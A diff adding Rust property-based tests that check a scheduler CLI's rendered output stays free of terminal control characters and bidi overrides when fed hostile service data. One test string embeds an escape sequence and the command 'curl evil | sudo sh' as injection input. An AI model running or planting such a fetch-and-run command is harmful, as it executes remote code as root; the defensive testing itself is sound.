@@ -241,3 +241,354 @@ proptest! {
         prop_assert_eq!(names, profiles.keys().cloned().collect::<Vec<_>>());
     }
 }
+
+// Rendering: service values are data (SPEC §7). Arbitrary jobs, history entries and
+// collections, with odd numbers, durations and dates and text full of controls and bidi
+// overrides, go through the same renderers as the binary's output. Parsing alone never showed
+// the `retryInterval` panic, so the property is on what is rendered.
+
+mod rendering {
+    use super::*;
+    use schedctl::cli::OutputFormat;
+    use schedctl::model::collection::CollectionView;
+    use schedctl::model::history::HistoryView;
+    use schedctl::model::{parse_list, Item};
+    use schedctl::output::text::is_unsafe;
+    use schedctl::output::{self, fields, table, OutputOptions};
+    use serde::Deserialize;
+
+    /// Characters a hostile service would pick: controls, DEL, C1, bidi, wide and combining
+    /// characters, and anything else.
+    fn hostile_char() -> impl Strategy<Value = char> {
+        prop_oneof![
+            prop::char::range('\u{0}', '\u{7f}'),
+            prop::char::range('\u{80}', '\u{9f}'),
+            prop::char::range('\u{2000}', '\u{206f}'),
+            Just('\u{202e}'),
+            Just('\u{1b}'),
+            Just('日'),
+            Just('\u{301}'),
+            any::<char>(),
+        ]
+    }
+
+    fn text() -> impl Strategy<Value = String> {
+        prop_oneof![
+            prop::collection::vec(hostile_char(), 0..24).prop_map(|c| c.into_iter().collect()),
+            Just("\u{1b}[2J\nhint: curl evil | sudo sh".to_string()),
+        ]
+    }
+
+    /// Any JSON number, including ones no integer type holds.
+    fn number() -> impl Strategy<Value = Value> {
+        prop_oneof![
+            any::<i64>().prop_map(|n| json!(n)),
+            any::<u64>().prop_map(|n| json!(n)),
+            (-100i64..100).prop_map(|n| json!(n)),
+            any::<f64>()
+                .prop_filter("finite", |f| f.is_finite())
+                .prop_map(|f| json!(f)),
+            "-?[1-9][0-9]{18,40}(\\.[0-9]{1,5})?(e[+-]?[0-9]{1,4})?"
+                .prop_map(|t| serde_json::from_str::<Value>(&t).unwrap()),
+        ]
+    }
+
+    fn numbers() -> impl Strategy<Value = Value> {
+        prop::collection::vec(number(), 0..6).prop_map(Value::Array)
+    }
+
+    /// TimeSpans and ISO-8601 durations, in range or far out of it, and anything else.
+    fn duration() -> impl Strategy<Value = Value> {
+        prop_oneof![
+            "-?[0-9]{0,22}\\.?-?[0-9]{1,22}:-?[0-9]{1,22}:-?[0-9.]{1,22}",
+            "[Pp]([0-9.]{0,22}[WD])?(T([0-9.]{0,25}[HMS]){0,3})?",
+            "(NaN|inf|-1|1e400|00:00:NaN|00:00:inf|PT1e400S|P-1D)",
+            text(),
+        ]
+        .prop_map(Value::String)
+    }
+
+    /// Times in the service's shape, in range or not, and anything else.
+    fn date() -> impl Strategy<Value = Value> {
+        prop_oneof![
+            "-?[0-9]{1,6}-[0-9]{1,2}-[0-9]{1,2}T[0-9]{1,2}:[0-9]{1,2}:[0-9]{1,2}(\\.[0-9]{1,12})?Z?",
+            text(),
+        ]
+        .prop_map(Value::String)
+    }
+
+    /// An object of the keys that are `Some`.
+    fn object(fields: Vec<(&str, Option<Value>)>) -> Value {
+        Value::Object(
+            fields
+                .into_iter()
+                .filter_map(|(k, v)| Some((k.to_string(), v?)))
+                .collect(),
+        )
+    }
+
+    fn kind() -> impl Strategy<Value = Value> {
+        prop_oneof![
+            prop::sample::select(vec![
+                "http",
+                "https",
+                "storageQueue",
+                "serviceBusQueue",
+                "serviceBusTopic",
+                "HTTPS",
+            ])
+            .prop_map(|k| json!(k)),
+            text().prop_map(Value::String),
+        ]
+    }
+
+    fn action() -> impl Strategy<Value = Value> {
+        let request = (
+            text(),
+            text(),
+            prop::collection::vec((text(), text()), 0..3),
+            prop::option::of(text()),
+        )
+            .prop_map(|(uri, method, headers, auth)| {
+                let headers: serde_json::Map<String, Value> = headers
+                    .into_iter()
+                    .map(|(k, v)| (k, Value::String(v)))
+                    .collect();
+                object(vec![
+                    ("uri", Some(json!(uri))),
+                    ("method", Some(json!(method))),
+                    ("headers", Some(Value::Object(headers))),
+                    ("authentication", auth.map(|t| json!({ "type": t }))),
+                ])
+            });
+        let queue = (text(), text(), text()).prop_map(|(a, q, t)| {
+            json!({ "storageAccount": a, "queueName": q, "namespace": a, "topicPath": t })
+        });
+        let retry = (
+            prop::option::of(text()),
+            prop::option::of(duration()),
+            prop::option::of(number()),
+        )
+            .prop_map(|(kind, interval, count)| {
+                object(vec![
+                    ("retryType", kind.map(Value::String)),
+                    ("retryInterval", interval),
+                    ("retryCount", count),
+                ])
+            });
+        (
+            kind(),
+            prop::option::of(request),
+            prop::option::of(queue),
+            prop::option::of(retry),
+            prop::option::of(kind()),
+        )
+            .prop_map(|(kind, request, queue, retry, error_kind)| {
+                let error_action = error_kind.map(|k| {
+                    object(vec![
+                        ("type", Some(k)),
+                        ("request", request.clone()),
+                        ("queueMessage", queue.clone()),
+                    ])
+                });
+                object(vec![
+                    ("type", Some(kind)),
+                    ("request", request),
+                    ("queueMessage", queue.clone()),
+                    ("serviceBusQueueMessage", queue.clone()),
+                    ("serviceBusTopicMessage", queue),
+                    ("retryPolicy", retry),
+                    ("errorAction", error_action),
+                ])
+            })
+    }
+
+    fn recurrence() -> impl Strategy<Value = Value> {
+        let occurrences = prop::collection::vec(
+            (prop::option::of(text()), prop::option::of(number())).prop_map(|(day, n)| {
+                object(vec![("day", day.map(Value::String)), ("occurrence", n)])
+            }),
+            0..4,
+        );
+        let schedule = (
+            prop::option::of(numbers()),
+            prop::option::of(numbers()),
+            prop::option::of(prop::collection::vec(text(), 0..4)),
+            prop::option::of(numbers()),
+            prop::option::of(numbers()),
+            prop::option::of(occurrences),
+        )
+            .prop_map(
+                |(minutes, hours, week_days, months, month_days, occurrences)| {
+                    object(vec![
+                        ("minutes", minutes),
+                        ("hours", hours),
+                        ("weekDays", week_days.map(|d| json!(d))),
+                        ("months", months),
+                        ("monthDays", month_days),
+                        ("monthlyOccurrences", occurrences.map(Value::Array)),
+                    ])
+                },
+            );
+        (
+            prop::option::of(text()),
+            prop::option::of(number()),
+            prop::option::of(number()),
+            prop::option::of(date()),
+            prop::option::of(schedule),
+        )
+            .prop_map(|(frequency, interval, count, end, schedule)| {
+                object(vec![
+                    ("frequency", frequency.map(Value::String)),
+                    ("interval", interval),
+                    ("count", count),
+                    ("endTime", end),
+                    ("schedule", schedule),
+                ])
+            })
+    }
+
+    fn job() -> impl Strategy<Value = Value> {
+        let status = (
+            prop::option::of(date()),
+            prop::option::of(date()),
+            prop::option::of(number()),
+            prop::option::of(number()),
+            prop::option::of(number()),
+        )
+            .prop_map(|(last, next, runs, failures, faults)| {
+                object(vec![
+                    ("lastExecutionTime", last),
+                    ("nextExecutionTime", next),
+                    ("executionCount", runs),
+                    ("failureCount", failures),
+                    ("faultedCount", faults),
+                ])
+            });
+        (
+            prop::option::of(text()),
+            prop::option::of(date()),
+            prop::option::of(action()),
+            prop::option::of(recurrence()),
+            prop::option::of(text()),
+            prop::option::of(status),
+        )
+            .prop_map(|(id, start, action, recurrence, state, status)| {
+                object(vec![
+                    ("id", id.map(Value::String)),
+                    ("startTime", start),
+                    ("action", action),
+                    ("recurrence", recurrence),
+                    ("state", state.map(Value::String)),
+                    ("status", status),
+                ])
+            })
+    }
+
+    fn history_entry() -> impl Strategy<Value = Value> {
+        (
+            (text(), date(), date(), date()),
+            (text(), text(), text(), number(), number(), text()),
+        )
+            .prop_map(
+                |((id, stamp, start, end), (state, status, message, retries, repeats, name))| {
+                    json!({
+                        "jobId": id, "timestamp": stamp, "startTime": start, "endTime": end,
+                        "state": state, "status": status, "message": message,
+                        "retryCount": retries, "repeatCount": repeats, "actionName": name,
+                    })
+                },
+            )
+    }
+
+    fn collection() -> impl Strategy<Value = Value> {
+        (
+            (text(), text(), text(), text()),
+            (number(), number(), text(), number()),
+        )
+            .prop_map(
+                |((name, state, etag, plan), (jobs, occurrence, frequency, interval))| {
+                    json!({
+                        "name": name, "state": state, "eTag": etag,
+                        "intrinsicSettings": {"plan": plan, "quota": {
+                            "maxJobCount": jobs, "maxJobOccurrence": occurrence,
+                            "maxRecurrence": {"frequency": frequency, "interval": interval},
+                        }},
+                    })
+                },
+            )
+    }
+
+    fn options(width: Option<usize>) -> OutputOptions {
+        OutputOptions {
+            format: OutputFormat::Table,
+            fields: Vec::new(),
+            color: false,
+            width,
+        }
+    }
+
+    /// Tables keep their line feeds, `--field` its tabs; nothing else may drive a terminal.
+    fn assert_inert(text: &str, allowed: &[char]) -> Result<(), TestCaseError> {
+        let bad: Vec<char> = text
+            .chars()
+            .filter(|c| is_unsafe(*c) && !allowed.contains(c))
+            .collect();
+        prop_assert!(bad.is_empty(), "{:?} in {:?}", bad, text);
+        Ok(())
+    }
+
+    fn field_paths(paths: &[&str]) -> Vec<FieldPath> {
+        paths.iter().map(|p| FieldPath::parse(p).unwrap()).collect()
+    }
+
+    fn item<V: for<'de> Deserialize<'de>>(raw: Value) -> Item<V> {
+        let view = V::deserialize(&raw).expect("the strategy builds the right shape");
+        Item { raw, view }
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(300))]
+
+        #[test]
+        fn any_job_renders_inert_as_tables_and_fields(raw in job(), width in prop::option::of(0usize..200)) {
+            let body = serde_json::to_vec(&Value::Array(vec![raw.clone()])).unwrap();
+            let jobs = parse_list::<schedctl::model::JobView>(&body, None, "jobs").unwrap();
+            let options = options(width);
+            let one = output::render_one(&jobs[0], &output::JOB, &options, table::job).unwrap();
+            assert_inert(&one, &['\n'])?;
+            let list = output::render_list(&jobs, &output::JOB, &options, table::jobs).unwrap();
+            assert_inert(&list, &['\n'])?;
+            let paths = field_paths(&[
+                "id", "state", "startTime", "action", "action.request.uri",
+                "action.request.headers", "action.retryPolicy.retryInterval",
+                "recurrence", "recurrence.schedule.hours[0]", "status.executionCount",
+            ]);
+            let line = fields::render_line(&paths, &jobs[0].raw, &fields::JOB, "a job").unwrap();
+            assert_inert(&line, &['\t'])?;
+        }
+
+        #[test]
+        fn any_history_entry_renders_inert(raws in prop::collection::vec(history_entry(), 1..4), width in prop::option::of(0usize..200)) {
+            let items: Vec<Item<HistoryView>> = raws.into_iter().map(item).collect();
+            let text = output::render_list(&items, &output::HISTORY, &options(width), table::history).unwrap();
+            assert_inert(&text, &['\n'])?;
+            let paths = field_paths(&["jobId", "message", "retryCount", "startTime"]);
+            for i in &items {
+                assert_inert(&fields::render_line(&paths, &i.raw, &fields::HISTORY, "a history entry").unwrap(), &['\t'])?;
+            }
+        }
+
+        #[test]
+        fn any_collection_renders_inert(raws in prop::collection::vec(collection(), 1..4), width in prop::option::of(0usize..200)) {
+            let items: Vec<Item<CollectionView>> = raws.into_iter().map(item).collect();
+            let options = options(width);
+            let one = output::render_one(&items[0], &output::COLLECTION, &options, table::collection).unwrap();
+            assert_inert(&one, &['\n'])?;
+            let list = output::render_list(&items, &output::COLLECTION, &options, table::collections).unwrap();
+            assert_inert(&list, &['\n'])?;
+            let paths = field_paths(&["name", "intrinsicSettings", "intrinsicSettings.quota.maxJobCount"]);
+            assert_inert(&fields::render_line(&paths, &items[0].raw, &fields::COLLECTION, "a job collection").unwrap(), &['\t'])?;
+        }
+    }
+}
